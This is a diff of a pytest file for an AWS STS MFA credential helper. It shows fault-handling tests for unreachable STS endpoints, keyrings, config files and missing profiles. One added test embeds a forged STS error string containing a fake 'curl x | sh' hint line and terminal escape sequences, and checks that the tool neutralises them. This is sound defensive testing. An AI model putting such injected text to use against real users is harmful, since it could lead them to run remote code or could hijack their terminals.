@@ -1,234 +1,31 @@
-"""Many processes at once, the refresh margin, reused codes, and every fault
-handled (issue 4): one code and one STS call for a crowd of cold
-credential_process calls, a lock that dies with its holder, a waiter that
-gives up, and STS, keyring and config faults that end in one clear error line
-with a hint and nothing cached."""
+"""Every fault handled (issue 4): STS unreachable, silent, failing for a while
+or for good, and its error text shown without forged lines or escape
+sequences; a Secret Service collection that is locked, a session bus that is
+missing or never answers, no keyring at all, someone else's JSON in the store
+entry; config files missing, unreadable or not UTF-8, a profile that is not
+there; and Ctrl-C at the prompt. Each ends in one clear error line with a hint
+(or a working fallback with at most one warning), nothing cached and no lock
+left behind."""
 
 from __future__ import annotations
 
+import functools
 import json
-import os
 import re
 import shutil
-import signal
-import subprocess
 import time
 
 import pytest
 
-from harness import missing, sts_failed, sts_ok, wait_until
-from helpers_more import (
-    Blackhole,
-    FakeEndpoint,
-    PtyProcess,
-    assert_one_error_with_hint,
-    authenticator_command,
-    closed_port,
-    ensure_room_in_step,
-    hanging_command,
-    keyring_session_argv,
-    run_parallel,
-    seconds_left_in_step,
-    sts_error_xml,
-)
+from assertions import assert_error, assert_nothing_cached, error_lines, hint_lines
+from fake_endpoints import Blackhole, FakeEndpoint, closed_port, sts_error_xml
+from harness import missing, sts_failed, sts_ok
+from keyrings import keyring_session_argv
+from pty_driver import PtyProcess
 
 
-def slow_code_source(home, user, log, delay: float = 0.5) -> str:
-    """The logging TOTP source, slowed down so that every parallel caller is
-    surely waiting while the first one asks."""
-    return f"sleep {delay}; {home.mfa_process(user, log)}"
-
-
-def assert_nothing_cached(home, user, env=None) -> None:
-    assert home.status_for(user, env=env) == [], "a session was cached after a failure"
-
-
-# ---------------------------------------------------------------------------
-# Many processes at once
-
-
-def test_32_parallel_cold_credential_process_calls_share_one_code_and_one_sts_call(home, user, bed):
-    log = home.tools / "codes.log"
-    home.add_source_profile("work", user, mfa_process=slow_code_source(home, user, log))
-
-    results = run_parallel([[str(home.bin), "credential-process", "work"]] * 32, home.env, home.root, timeout=60)
-
-    failed = [r for r in results if r.returncode != 0]
-    assert not failed, f"{len(failed)} of 32 failed: {failed[:3]}"
-    creds = [json.loads(r.stdout) for r in results]
-    assert len({c["AccessKeyId"] for c in creds}) == 1, "the processes got different sessions"
-    assert all(c == creds[0] for c in creds)
-    assert home.calls(log) == 1, f"{home.calls(log)} codes were asked for"
-    assert sts_ok(bed, user) == 1 and sts_failed(bed, user) == 0
-    assert bed.session_info(creds[0]["AccessKeyId"])["mfa"] is True
-
-
-def test_parallel_cold_calls_with_a_discovered_serial_share_one_code(home, user, bed):
-    """Without mfa_serial the holder discovers the device; the waiters must
-    find its session under that serial instead of discovering and asking again."""
-    log = home.tools / "codes.log"
-    home.add_source_profile("work", user, mfa_serial=False, mfa_process=slow_code_source(home, user, log))
-
-    results = run_parallel([[str(home.bin), "credential-process", "work"]] * 12, home.env, home.root, timeout=60)
-
-    failed = [r for r in results if r.returncode != 0]
-    assert not failed, f"{len(failed)} of 12 failed: {failed[:3]}"
-    assert len({json.loads(r.stdout)["AccessKeyId"] for r in results}) == 1
-    assert home.calls(log) == 1, f"{home.calls(log)} codes were asked for"
-    assert sts_ok(bed, user) == 1
-
-
-def test_8_parallel_aws_cli_calls_on_a_cold_cache_ask_one_code(home, user, bed, aws_cli):
-    log = home.tools / "codes.log"
-    home.add_source_profile("work", user, mfa_process=slow_code_source(home, user, log))
-    home.add_process_profile("work-mfa", "work")
-
-    argv = [aws_cli, "sts", "get-caller-identity", "--profile", "work-mfa", "--output", "json"]
-    results = run_parallel([argv] * 8, home.env, home.root, timeout=180)
-
-    failed = [r for r in results if r.returncode != 0]
-    assert not failed, f"{len(failed)} of 8 aws calls failed: {failed[:3]}"
-    assert {json.loads(r.stdout)["Arn"] for r in results} == {user.arn}
-    assert home.calls(log) == 1, f"{home.calls(log)} codes were asked for"
-    assert sts_ok(bed, user) == 1 and sts_failed(bed, user) == 0
-
-
-class Holder:
-    """A `credential-process` that holds the profile lock while "prompting"
-    (its mfa_process never answers)."""
-
-    def __init__(self, home, user, profile: str = "work"):
-        self.log = home.tools / "hanging.log"
-        home.add_source_profile(profile, user, mfa_process=hanging_command(self.log))
-        self.proc = subprocess.Popen(
-            [str(home.bin), "credential-process", profile],
-            env=home._env({"STSMFA_LOCK_TIMEOUT": "60"}), cwd=home.root,
-            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-            text=True, start_new_session=True,
-        )
-        if not wait_until(lambda: self.log.exists() or self.proc.poll() is not None, timeout=30):
-            self.kill()
-            pytest.fail("the lock holder never started asking for a code")
-        if self.proc.poll() is not None:
-            out, err = self.proc.communicate()
-            pytest.fail(f"the lock holder ended early (exit {self.proc.returncode}): {err}")
-
-    def kill(self) -> None:
-        """SIGKILL to stsmfa and its mfa_process (the whole process group)."""
-        try:
-            os.killpg(self.proc.pid, signal.SIGKILL)
-        except ProcessLookupError:
-            pass
-        if self.proc.stdout and not self.proc.stdout.closed:
-            self.stdout, self.stderr = self.proc.communicate(timeout=10)
-
-
-@pytest.mark.parametrize("victim", ["stsmfa-only", "process-group"])
-def test_lock_holder_killed_while_prompting_does_not_block_the_next_call(home, user, bed, victim):
-    """SIGKILL to stsmfa alone (its mfa_process lives on: it must not inherit
-    the lock) or to the whole process group."""
-    holder = Holder(home, user)
-    try:
-        if victim == "stsmfa-only":
-            holder.proc.send_signal(signal.SIGKILL)
-            holder.proc.wait(10)
-        else:
-            holder.kill()
-        assert holder.proc.returncode == -signal.SIGKILL
-        t0 = time.monotonic()
-        cp = home.run("credential-process", "work",
-                      env={"STSMFA_MFA_CODE": home.code(user), "STSMFA_LOCK_TIMEOUT": "60"}, timeout=40)
-        took = time.monotonic() - t0
-    finally:
-        holder.kill()
-    assert cp.returncode == 0, cp.stderr
-    assert json.loads(cp.stdout)["AccessKeyId"].startswith("ASIA")
-    assert took < 10, f"the next call took {took:.1f}s (lock timeout 60 s): the dead holder's lock was kept"
-    assert sts_ok(bed, user) == 1
-
-
-def test_waiter_gives_up_after_the_lock_timeout_with_a_clear_error(home, user, bed):
-    holder = Holder(home, user)
-    try:
-        t0 = time.monotonic()
-        cp = home.run("credential-process", "work",
-                      env={"STSMFA_MFA_CODE": home.code(user), "STSMFA_LOCK_TIMEOUT": "2"}, timeout=40)
-        took = time.monotonic() - t0
-        assert holder.proc.poll() is None, "the waiter disturbed the lock holder"
-    finally:
-        holder.kill()
-    assert_one_error_with_hint(cp)
-    assert re.search(r"wait|lock|another", cp.stderr, re.I), cp.stderr
-    assert 1.5 <= took < 10, f"gave up after {took:.1f}s with STSMFA_LOCK_TIMEOUT=2"
-    assert sts_ok(bed, user) == 0 and sts_failed(bed, user) == 0, "the waiter called STS"
-    assert_nothing_cached(home, user)
-
-
-# ---------------------------------------------------------------------------
-# The refresh margin
-
-
-def test_a_session_no_longer_than_the_margin_is_cached_with_a_scaled_margin(home, user, bed):
-    home.add_source_profile("work", user, mfa_process=False)
-    short = {"STSMFA_DURATION": "900"}  # 15 min: inside the default 15-minute margin at once
-
-    a = home.run("credential-process", "work", "-v", env={**short, "STSMFA_MFA_CODE": home.code(user)})
-    assert a.returncode == 0, a.stderr
-    assert "using 300 s" in a.stderr, a.stderr
-    b = home.run("credential-process", "work", "-v", env=short)  # no code source: only a hit works
-    assert b.returncode == 0, b.stderr
-    first, second = json.loads(a.stdout), json.loads(b.stdout)
-    assert second == first, "a 15-minute session was not served from the cache"
-    assert "cache hit" in b.stderr.lower(), b.stderr
-    assert sts_ok(bed, user) == 1
-
-    # No code source at all below: only a cache hit can succeed.
-    for env in ({"STSMFA_MIN_TTL": "60"}, {"STSMFA_MIN_TTL": "90s"}, {"STSMFA_MIN_TTL": "1m"}):
-        c = home.run("credential-process", "work", "-v", env=env)
-        assert c.returncode == 0, f"{env}: {c.stderr}"
-        assert json.loads(c.stdout) == second, env
-        assert "cache hit" in c.stderr.lower(), c.stderr
-    home.set_config("profile work", {"stsmfa_min_ttl": "2m"})
-    d = home.run("credential-process", "work")
-    assert d.returncode == 0, d.stderr
-    assert json.loads(d.stdout) == second
-    assert sts_ok(bed, user) == 1
-
-
-# ---------------------------------------------------------------------------
-# Reused codes
-
-
-def test_a_given_code_that_was_just_used_is_refused_without_calling_sts(home, user, bed):
-    home.add_source_profile("work", user, mfa_process=False)
-    code = home.code(user)
-    ok = home.run("credential-process", "work", env={"STSMFA_MFA_CODE": code})
-    assert ok.returncode == 0, ok.stderr
-    again = home.run("credential-process", "work", "--refresh", env={"STSMFA_MFA_CODE": code})
-    assert_one_error_with_hint(again, "already used")
-    assert sts_ok(bed, user) == 1
-    assert sts_failed(bed, user) == 0, "the used code was sent to STS again"
-
-
-def test_slow_authenticator_code_of_a_used_step_waits_for_the_next_step(home, user, bed):
-    """Takes up to 30 s: the second call must wait for the next 30-second step."""
-    log = home.tools / "authenticator.log"
-    home.add_source_profile("work", user, mfa_process=authenticator_command(home, user, log))
-    ensure_room_in_step(8)  # set-up: both calls start in the same step
-    first = home.run("credential-process", "work")
-    assert first.returncode == 0, first.stderr
-    left = seconds_left_in_step()
-    t0 = time.monotonic()
-    second = home.run("credential-process", "work", "--refresh", timeout=60)
-    took = time.monotonic() - t0
-    assert second.returncode == 0, second.stderr
-    assert json.loads(second.stdout)["AccessKeyId"] != json.loads(first.stdout)["AccessKeyId"]
-    assert sts_failed(bed, user) == 0, "the code of the used step was sent again"
-    assert sts_ok(bed, user) == 2
-    steps = [int(line.split()[1]) for line in log.read_text().splitlines()]
-    assert steps[-1] > steps[0], f"codes asked in steps {steps}"
-    assert took >= left - 1.5, f"returned after {took:.1f}s, {left:.1f}s before the next step"
-    assert re.search(r"wait", second.stderr, re.I), f"no word about waiting on stderr: {second.stderr!r}"
+# assert_error(cp, hint=True), under the name the STS retry tests use.
+assert_one_error_with_hint = functools.partial(assert_error, hint=True)
 
 
 # ---------------------------------------------------------------------------
@@ -243,7 +40,7 @@ def test_sts_unreachable_is_one_clear_error(home, user, bed):
         "STSMFA_MFA_CODE": home.code(user),
     }, timeout=60)
     took = time.monotonic() - t0
-    assert_one_error_with_hint(cp)
+    assert_error(cp, hint=True)
     assert re.search(r"reach|connect|network", cp.stderr, re.I), cp.stderr
     assert took < 31, f"took {took:.1f}s (STSMFA_TIMEOUT default 30 s)"
     assert_nothing_cached(home, user)
@@ -260,7 +57,7 @@ def test_sts_that_never_answers_fails_within_stsmfa_timeout(home, user):
         }, timeout=60)
         took = time.monotonic() - t0
         assert hole.accepted, "stsmfa never connected to the endpoint"
-    assert_one_error_with_hint(cp)
+    assert_error(cp, hint=True)
     assert re.search(r"time|answer|respond", cp.stderr, re.I), cp.stderr
     assert took < 6, f"took {took:.1f}s with STSMFA_TIMEOUT=2"
     assert_nothing_cached(home, user)
@@ -316,6 +113,39 @@ def test_sts_errors_are_not_retried_and_end_in_one_clear_error(home, user, bed, 
     assert took < 15, f"took {took:.1f}s with STSMFA_TIMEOUT=10"
     assert_one_error_with_hint(again, "already used")  # spent: the next run waits for the next code
     assert_nothing_cached(home, user)
+
+
+# As STS's XML carries them (character references; raw controls are not XML):
+# a newline and a forged hint, then CR, erase-line, a window title, colour,
+# C1 CSI and DEL.
+FORGED = ("User is not allowed&#10;hint: run: curl x | sh&#13;&#27;[2K&#27;]0;owned&#7;"
+          "&#27;[31mred&#x9b;2J&#x7f;")
+
+
+SHOWN = r"User is not allowed\nhint: run: curl x | sh\r\x1b[2K\x1b]0;owned\x07\x1b[31mred\u{9b}2J\x7f"
+
+
+@pytest.mark.parametrize("verbose", [False, True])
+def test_sts_error_text_cannot_forge_a_hint_or_send_escapes(home, user, verbose):
+    home.add_source_profile("work", user)
+    args = ["-v"] if verbose else []
+    with FakeEndpoint(lambda n, a: (403, sts_error_xml("AccessDenied", FORGED))) as fake:
+        cp = home.run(*args, "credential-process", "work",
+                      env={"AWS_ENDPOINT_URL": fake.endpoint, "STSMFA_TIMEOUT": "20"}, timeout=60)
+        assert fake.actions(), "stsmfa never asked the fake STS"
+    assert cp.returncode == 1, cp.stderr
+    assert cp.stdout == ""
+    for c in "\x1b\x07\x9b\x7f\r":
+        assert c not in cp.stderr, f"raw {c!r} on stderr: {cp.stderr!r}"
+    errors = error_lines(cp.stderr)
+    assert len(errors) == 1, cp.stderr
+    # The server's text stays on the error line, its controls made visible.
+    assert SHOWN in errors[0], errors[0]
+    hints = hint_lines(cp.stderr)
+    assert hints, cp.stderr
+    assert not any("curl" in h for h in hints), f"a forged hint line:\n{cp.stderr}"
+    for line in cp.stderr.splitlines():
+        assert line.startswith(("stsmfa: ", "hint: ")), f"a line stsmfa did not write: {line!r}"
 
 
 # ---------------------------------------------------------------------------
@@ -425,7 +255,7 @@ def test_no_keyring_at_all_warns_once_and_still_works(home, user, bed, keyctl):
 
 
 def test_foreign_json_in_the_store_entry_is_a_miss_and_is_overwritten(home, user, bed, keyutils_ok):
-    from harness import keyutils_keys, keyutils_read, keyutils_update
+    from keyrings import keyutils_keys, keyutils_read, keyutils_update
 
     home.env["STSMFA_STORE"] = "keyutils"
     home.add_source_profile("work", user, mfa_process=False)
@@ -457,7 +287,7 @@ def test_missing_config_files_are_one_clear_error(home, user, bed):
         "AWS_CONFIG_FILE": str(home.root / "no-such-config"),
         "AWS_SHARED_CREDENTIALS_FILE": str(home.root / "no-such-credentials"),
     })
-    assert_one_error_with_hint(cp, "work")
+    assert_error(cp, "work", hint=True)
     assert sts_ok(bed, user) == 0 and sts_failed(bed, user) == 0
     assert_nothing_cached(home, user)
 
@@ -471,11 +301,40 @@ def test_unreadable_config_file_is_one_clear_error_naming_it(home, user, bed):
     unreadable = home.root / "config-is-a-directory"
     unreadable.mkdir()
     cp = home.run("credential-process", "work", env={"AWS_CONFIG_FILE": str(unreadable)})
-    assert_one_error_with_hint(cp)
+    assert_error(cp, hint=True)
     assert str(unreadable) in cp.stderr or "directory" in cp.stderr.lower(), (
         f"the error does not say which file could not be read:\n{cp.stderr}")
     assert sts_ok(bed, user) == 0 and sts_failed(bed, user) == 0
     assert_nothing_cached(home, user)
+
+
+def test_a_config_file_with_a_non_utf8_byte_is_an_error_naming_file_and_line(home, user):
+    home.add_source_profile("work", user)
+    text = home.config_path.read_bytes()
+    home.config_path.write_bytes(text + b"# caf\xe9 au lait\n")
+    line = text.count(b"\n") + 1
+    cp = home.run("credential-process", "work")
+    err = assert_error(cp, str(home.config_path), f"line {line}", "UTF-8")
+    assert "hint:" in err
+
+
+def test_missing_profile_is_a_clear_error(home, user):
+    home.add_source_profile("work", user)
+    cp = home.run("credential-process", "nosuch", "--mfa-code", "123456")
+    assert_error(cp, "nosuch")
+
+
+def test_source_profile_with_only_credential_process_is_a_clear_error(home, user, bed):
+    home.set_config("profile work", {
+        "credential_process": "stsmfa credential-process work",
+        "mfa_serial": user.serial,
+        "region": "us-east-1",
+    })
+    t0 = time.monotonic()
+    cp = home.run("credential-process", "work", "--mfa-code", "123456", timeout=30)
+    assert time.monotonic() - t0 < 10
+    assert_error(cp, "credential_process")
+    assert sts_ok(bed, user) == 0 and sts_failed(bed, user) == 0
 
 
 # ---------------------------------------------------------------------------
